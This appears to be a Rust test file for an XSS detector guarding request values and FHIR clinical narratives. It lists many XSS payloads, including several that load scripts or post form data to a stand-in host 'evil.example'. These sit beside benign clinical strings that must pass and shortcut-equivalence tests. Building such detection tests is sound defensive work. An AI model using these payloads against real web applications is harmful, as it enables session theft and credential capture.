//! Attack and benign tables for the XSS detector and the FHIR narrative rules.

use super::{Scope, detect, narrative};
use crate::detect::Finding;

fn score(value: &str, scope: Scope) -> u16 {
    let mut f: Vec<Finding> = Vec::new();
    detect(value, scope, &mut f);
    f.iter().map(|f| f.score).max().unwrap_or(0)
}

fn narrative_score(value: &str) -> u16 {
    let mut f: Vec<Finding> = Vec::new();
    narrative(value, &mut f);
    f.iter().map(|f| f.score).max().unwrap_or(0)
}

const MARKUP_ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></script>",
    "<svg/onload=alert(1)>",
    "<img src=x onerror=alert(document.domain)>",
    "<body onload=alert('test1')>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"&#32;javascript:alert(1)\">",
    "<IMG SRC=j&#X41vascript:alert('test')>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<embed src=\"http://evil.example/x.swf\">",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<form action=\"https://evil.example/steal\"><input name=pw></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"https://evil.example/\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<div style=\"width: expression(alert(1));\">",
    "<style>body{background:url(\"javascript:alert(1)\")}</style>",
    "<svg><set attributeName=\"href\" to=\"javascript:alert(1)\"/></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
    "<details/open/ontoggle=\"alert(1)\">",
    "<x onpointerrawupdate=confirm(1)>",
    "<x onxxx=alert(1) 1='",
];

#[test]
fn markup_that_executes_is_found_in_every_scope() {
    for a in MARKUP_ATTACKS {
        assert_eq!(score(a, Scope::Full), 5, "full: {a}");
        assert_eq!(score(a, Scope::Markup), 5, "clinical: {a}");
    }
}

#[test]
fn script_outside_markup_is_found_in_request_values() {
    for a in [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(document.cookie)",
        "data:text/html,<form action=https://x>",
        "\" onmouseover=\"alert(1)",
        "\"onClick=\"(prompt)(1)",
        "' autofocus onfocus=alert(1) x='",
        "';alert(String.fromCharCode(88,83,83))//",
        "\"-alert(1)-\"",
        "{{constructor.constructor('alert(1)')()}}",
        "</script><script>alert(1)</script>",
        "alert.call(null,1)",
        "<IMG SRC=\"http://evil.example/x.php?a=1\">",
        "<LAYER SRC=\"http://evil.example/scriptlet.html\"></LAYER>",
        "\u{BC}script\u{BE}alert(1)\u{BC}/script\u{BE}",
        "' style=abc:expression(alert(1)) '",
        "<label datasrc=\"#xss\" datafld=\"payload\"></label>",
    ] {
        assert_eq!(score(a, Scope::Full), 5, "{a}");
    }
}

#[test]
fn clinical_text_with_comparisons_and_plain_markup_passes() {
    for b in [
        "hold if HR < 60 or SBP < 100",
        "K+ <3.5 -> replace; >5.5 -> recheck",
        "h2<h1",
        "<b>Penicillin</b> allergy: rash",
        "JavaScript: Basics of JavaScript Language",
        "Please confirm (yes/no) with the patient",
        "Onset=2 days ago",
        "online=yes",
        "<a href=\"/fhir/Patient/1\">John</a>",
        "see <https://example.org/guideline>",
        "1alert(1)",
    ] {
        assert_eq!(score(b, Scope::Full), 0, "full: {b}");
        assert_eq!(score(b, Scope::Markup), 0, "clinical: {b}");
    }
}

#[test]
fn narrative_rules() {
    let allowed = [
        "<div xmlns=\"http://www.w3.org/1999/xhtml\"><p><b>Siobhán O&#39;Brien</b>, female</p><p>MRN &lt;pending merge&gt; -- see registration note</p></div>",
        "<div xmlns=\"http://www.w3.org/1999/xhtml\"><table class=\"grid\"><tr><td style=\"background-color: #f3f5da\" title=\"Record is active\">Active:</td></tr></table></div>",
        "<div xmlns=\"http://www.w3.org/1999/xhtml\"><img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"chart\"/><a href=\"#ref1\">note</a></div>",
        "<div xmlns=\"http://www.w3.org/1999/xhtml\">hold if HR &lt; 60 or SBP &lt; 100</div>",
    ];
    for n in allowed {
        assert_eq!(narrative_score(n), 0, "{n}");
    }
    let forbidden = [
        "<div xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(1)</script></div>",
        "<div xmlns=\"http://www.w3.org/1999/xhtml\"><p onclick=\"x()\">a</p></div>",
        "<div xmlns=\"http://www.w3.org/1999/xhtml\"><a href=\"javascript:alert(1)\">a</a></div>",
        "<div xmlns=\"http://www.w3.org/1999/xhtml\"><a href=\"data:text/html,x\">a</a></div>",
        "<div xmlns=\"http://www.w3.org/1999/xhtml\"><iframe src=\"https://x\"></iframe></div>",
        "<div xmlns=\"http://www.w3.org/1999/xhtml\"><object data=\"x\"></object></div>",
        "<div xmlns=\"http://www.w3.org/1999/xhtml\"><form><input/></form></div>",
        "<div xmlns=\"http://www.w3.org/1999/xhtml\"><p style=\"x:expression(alert(1))\">a</p></div>",
    ];
    for n in forbidden {
        assert_eq!(narrative_score(n), 5, "{n}");
    }
}

/// Markup that does not run script by itself but has no business in a request parameter:
/// blocked in request values, left to the narrower rules in clinical text.
const INJECTED_MARKUP: &[&str] = &[
    "<style type=\"text/css\">",
    "<style>#x{color:red}</style>",
    "<svg xmlns=\"http://www.w3.org/2000/svg\">",
    "<svg height=\"50px\">",
    "<math>",
    "<div style=\"background:url(test5.svg)\">PRESS ENTER</div>",
    "<x style=\"background:url('x[a];color:red;/*')\">XXX</x>",
    "<form>",
    "<input name=\"secret\" type=\"password\">",
    "<textarea cols=\"50\" rows=\"10\"></textarea>",
    "<label>type a,b,c</label>",
    "<h1>Drop me</h1>",
    "<br/><hr/>",
    "<head>",
    "<HTML><BODY>",
    "</textarea>",
    "</title><b>x</b>",
    "</svg:svg>",
    "<feImage>",
    "<rect fill=\"white\" width=\"1000\" height=\"1000\"/>",
    "<image xmlns:xlink=\"http://www.w3.org/1999/xlink\">",
    "<svg:mask id=\"m\" maskUnits=\"objectBoundingBox\">",
    "<xsl:stylesheet version=\"1.0\">",
    "<doc xmlns:html=\"http://www.w3.org/1999/xhtml\">",
    "<img src=\"/logo.png\">",
    "<video src=\"clip.mp4\">",
    "<A HREF=\"http://www.example.com\">XSS</A>",
    "<A HREF=\"htt\tp://6\t6.000146.0x7.147/\">XSS</A>",
    "<a href=\"//evil.example/\">x</a>",
    // `&colon;` cut off by a form decoder that split the value at `&`.
    "<a href=\"jAvAsCrIpT",
    "<!-- IE 6-9 -->",
    "<div id=\"39\"><!-- up to Opera 11.52 -->",
    "<!DOCTYPE x [",
    "<!ATTLIST img src CDATA \"xx:x\"",
    "<div id=\"66\"><?xml version=\"1.0\"?>",
    "<?import namespace=\"t\" implementation=\"#default#time2\">",
    "<? echo('<SCR)';",
    "x='<%'",
    "</doc>//[\"'`-->]]>]</div>",
    "+ADw-p+AD4-Welcome to UTF-7!+ADw-+AC8-p+AD4-",
];

#[test]
fn injected_markup_is_blocked_in_request_values_only() {
    for a in INJECTED_MARKUP {
        assert_eq!(score(a, Scope::Full), 5, "full: {a}");
    }
    for a in INJECTED_MARKUP.iter().take(30) {
        assert_eq!(score(a, Scope::Markup), 0, "clinical: {a}");
    }
}

#[test]
fn encoded_tag_openers_and_stripped_tags() {
    for a in [
        "&lt",
        "&LT;",
        "&#0000060",
        "&#x003C;",
        "\\x3c",
        "\\u003C",
        "%3C",
        "%26lt%3B",
        "%26%23x3C%3B",
        "\\\"autof<x>ocus o<x>nfocus=alert<x>(1)//",
        "&gt; src onerror=confirm&amp;lpar;1&amp;rpar;&lt;",
    ] {
        assert_eq!(score(a, Scope::Full), 5, "{a}");
    }
}

#[test]
fn formatting_comparisons_and_xml_messages_pass_in_request_values() {
    for b in [
        "<",
        "BP <140/90",
        "x<y and z>w",
        "<5 mg",
        "growth <5% per year",
        "O'Brien",
        "select a drop-in clinic",
        "step 1 -> step 2",
        "BLAH <A HREF=\"/PATH1/PATH2/PATH3\">FOO</A>",
        "junk <a href=\"../\">foo.com</a>",
        "<SPAN CLASS=\"SHOW-TEXT\">REGARDEZ</SPAN>",
        "FAITES UN TOUR SUR NOTRE NOUVELLE <BR /><A HREF=\"/APPS/\">GALERIE</A>!",
        "<table width=\"99%\" border=\"0\" cellpadding=\"1\"'",
        "V1_OTHER_1\"><IMG CLASS=\"SIZE-FULL WP-IMAGE-2764",
        "LISTING-PRICE\"> <A-TRIGVORITE LISTING-FAVORITE <IMG SRC=",
        "and >I would like to see all of the items that are type <enter type here>.",
        "dGVzdCtBRHcrAD+ADwx/abc==",
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<PRPA_IN201309UV02 ITSVersion=\"XML_1.0\" xmlns=\"urn:hl7-org:v3\"><id root=\"2.16.840.1.113883.4.2\"/></PRPA_IN201309UV02>",
        "<ClinicalDocument xmlns=\"urn:hl7-org:v3\"><title>Discharge summary</title><text><table><tr><td>BP &lt;140/90</td></tr></table></text></ClinicalDocument>",
    ] {
        assert_eq!(score(b, Scope::Full), 0, "full: {b}");
        assert_eq!(score(b, Scope::Markup), 0, "clinical: {b}");
    }
}

/// The shortcuts of `sinks` (a byte that any hit needs) and `attribute_break` (an `=`) give
/// what the scans without them give: on every corpus string, and on each with those bytes
/// removed (where the shortcut answers alone).
#[test]
fn shortcuts_agree_with_the_full_scans() {
    use crate::detect::differential::{corpus_strings, without};
    let sink_byte = |b: u8| matches!(b, b'(' | b')' | b'`' | b'=' | b'.' | b'[');
    for text in corpus_strings() {
        let stripped = without(&text, sink_byte);
        for t in [text.as_str(), stripped.as_str()] {
            let b = t.as_bytes();
            assert_eq!(super::script::sinks(b), super::script::sinks_in(b), "{t}");
        }
        let stripped = without(&text, |b| b == b'=');
        for t in [text.as_str(), stripped.as_str()] {
            let b = t.as_bytes();
            assert_eq!(
                super::attribute_break(b),
                super::attribute_break_in(b),
                "{t}"
            );
        }
    }
}

/// The shortcuts of `detect` (bytes that some rule reads; markup-free values, where only the
/// sink scan reads) give what `detect_in` gives, in both scopes: on every corpus string, on
/// each without the markup bytes (and without non-ASCII), on each of those without the bytes
/// any rule reads, and on hand-written values.
#[test]
fn plain_values_are_judged_as_by_every_rule() {
    use crate::detect::differential::{corpus_strings, without};
    let read = |b: u8| {
        matches!(
            b,
            b'<' | b':'
                | b'&'
                | b'%'
                | b'\\'
                | b'+'
                | b'='
                | b'{'
                | b'('
                | b')'
                | b'`'
                | b'.'
                | b'['
        )
    };
    // The bytes the second shortcut (markup-free values: the sink scan only) needs absent.
    let markup = |b: u8| {
        matches!(
            b,
            b'<' | b'>' | b':' | b'&' | b'%' | b'\\' | b'+' | b'=' | b'{'
        )
    };
    let mut markup_free = 0;
    let mut sink_hits = 0;
    let extra = [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
        "alert(1)",
        "x;alert(1)",
        "(confirm)(1)",
        "top[alert](1)",
        "a.innerHTML",
        "document.cookie",
        "fetch(x)",
        "eval(atob(x))",
        "]]",
        "]]>",
        "x]]>y",
        "<b",
        "a < b",
        "a > b",
        "\u{BC}script\u{BE}alert(1)\u{BC}/script\u{BE}",
        "javascript:alert(1)",
        "x + ADw-script",
        "+ADw-script+AD4-",
        "{{constructor.constructor(1)()}}",
        "%3C",
        "&lt;",
        "\\x3c",
        "\" onmouseover=alert(1)",
        "data:text/html;base64,PHNjcmlwdD4",
        "javascript:void(0)",
        "{{$on.constructor}}",
        "<script x",
    ];
    let mut values: Vec<String> = extra.iter().map(|t| (*t).to_owned()).collect();
    for text in corpus_strings() {
        values.push(without(&text, markup));
        values.push(
            without(&text, markup)
                .chars()
                .filter(char::is_ascii)
                .collect(),
        );
        values.push(text);
    }
    for text in values {
        let stripped = without(&text, read);
        for t in [text.as_str(), stripped.as_str()] {
            let b = t.as_bytes();
            if !b.iter().any(|&c| c >= 0x80 || markup(c)) {
                markup_free += 1;
                sink_hits += usize::from(super::script::sinks(b).is_some());
            }
            for scope in [Scope::Full, Scope::Markup] {
                let (mut fast, mut full) = (Vec::new(), Vec::new());
                detect(t, scope, &mut fast);
                super::detect_in(t, scope, &mut full);
                assert_eq!(fast, full, "{t}");
            }
        }
    }
    // The second shortcut is exercised, on values the sink scan finds something in too.
    assert!(
        markup_free > 10_000 && sink_hits > 100,
        "{markup_free} {sink_hits}"
    );
}
